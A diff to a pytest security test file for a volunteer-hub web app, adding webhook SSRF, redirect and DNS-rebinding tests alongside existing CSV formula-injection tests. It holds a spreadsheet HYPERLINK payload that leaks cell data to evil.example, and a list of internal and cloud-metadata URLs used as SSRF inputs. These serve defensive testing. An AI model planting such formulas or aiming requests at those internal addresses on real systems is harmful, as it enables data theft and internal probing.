@@ -1,13 +1,20 @@
 """What an attacker tried on the landed app (issue #16), one test (or more) per finding."""
 import csv
 import io
+import socket
+
+import pytest
+import sqlalchemy as sa
 
 from tests.merchants.test_merchants import shop  # noqa: F401  (fixture)
 from tests.test_pages import login
 from tests.vouchers.test_vouchers import haircut, owner_of  # noqa: F401  (fixtures)
+from volunteer_hub.core.errors import ValidationFailed
 from volunteer_hub.extensions import db
 from volunteer_hub.merchants import services as merchants
 from volunteer_hub.nodes import services as nodes
+from volunteer_hub.notifications import services as notifications
+from volunteer_hub.notifications.models import WebhookDelivery
 from volunteer_hub.vouchers import services as vouchers
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
@@ -40,3 +47,67 @@ def test_a_formula_in_a_node_name_is_text_in_the_weekly_report(app, world):
     names = [row[1] for row in rows[1:]]
     assert "'" + DDE in names and DDE not in names
     assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
+
+
+# 2. Webhook SSRF ----------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("url", [
+    "https://169.254.169.254/latest/", "https://10.1.2.3:8443/x", "http://[::1]:6379/", "http://localhost:22/",
+    "https://127.0.0.1/x", "https://[::ffff:127.0.0.1]/x", "https://100.64.0.1/", "https://224.0.0.1/",
+    "https://0.0.0.0/", "https://[fe80::1]/", "https://[2002:7f00:1::]/", "https://192.168.1.1:99999/",
+])
+def test_webhooks_into_private_networks_are_refused(app, world, api, url):
+    response = api(world.centre_admin).put(f"/api/v1/centres/{world.centre.id}/webhook", json={"url": url})
+    assert response.status_code == 422 and "url" in response.json["error"]["fields"]
+    assert notifications.webhook_of(world.centre) is None
+
+
+def _queue_one_delivery(world):
+    notifications.notify_users([world.volunteer.id], key="k", kind="theme", title="t", centre_id=world.centre.id)
+    db.session.commit()
+    return db.session.scalar(sa.select(WebhookDelivery))
+
+
+@pytest.mark.app_config(OUTBOUND_ALLOWED_NETWORKS="127.0.0.1/32")
+def test_a_delivery_follows_no_redirect(app, world, receiver):
+    internal = receiver()
+    gateway = receiver(302, location=internal.url.replace("/hook", "/internal-admin"))
+    notifications.configure_webhook(world.centre_admin, world.centre, url=gateway.url)
+    delivery = _queue_one_delivery(world)
+    assert notifications.deliver_due()["retrying"] == 1
+    assert len(gateway.received) == 1 and internal.received == []
+    assert delivery.last_error == "redirect"
+
+
+def test_an_address_that_changes_after_the_check_is_refused_at_connection(app, world, receiver, monkeypatch):
+    """DNS rebinding: the name resolved to a public address when saved, to loopback when delivered."""
+    internal = receiver()
+    answers = iter(["93.184.216.34", "127.0.0.1"])
+
+    def rebinding(host, port, *args, **kwargs):
+        assert host == "gw.rebind.example"
+        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (next(answers), port))]
+
+    monkeypatch.setattr(socket, "getaddrinfo", rebinding)
+    port = internal.server.server_port
+    notifications.configure_webhook(world.centre_admin, world.centre, url=f"https://gw.rebind.example:{port}/hook")
+    delivery = _queue_one_delivery(world)
+    notifications.deliver_due()
+    assert delivery.last_error == "address" and internal.received == []
+
+
+@pytest.mark.app_config(OUTBOUND_ALLOWED_NETWORKS="127.0.0.1/32")
+def test_the_delivery_list_shows_failure_categories_not_socket_text(app, world):
+    notifications.configure_webhook(world.centre_admin, world.centre, url="http://127.0.0.1:9/closed")
+    _queue_one_delivery(world)
+    notifications.deliver_due()
+    db.session.commit()
+    page = login(app.test_client(), world.centre_admin).get(f"/centres/{world.centre.id}/webhook").text
+    assert "无法连接" in page and "Errno" not in page and "refused" not in page.lower()
+
+
+@pytest.mark.app_config(OUTBOUND_ALLOWED_NETWORKS="10.0.0.5/32")
+def test_an_on_premises_gateway_is_allowed_by_an_explicit_setting(app, world):
+    assert notifications.configure_webhook(world.centre_admin, world.centre, url="http://10.0.0.5:8080/sms")
+    with pytest.raises(ValidationFailed):
+        notifications.configure_webhook(world.centre_admin, world.centre, url="http://10.0.0.6:8080/sms")
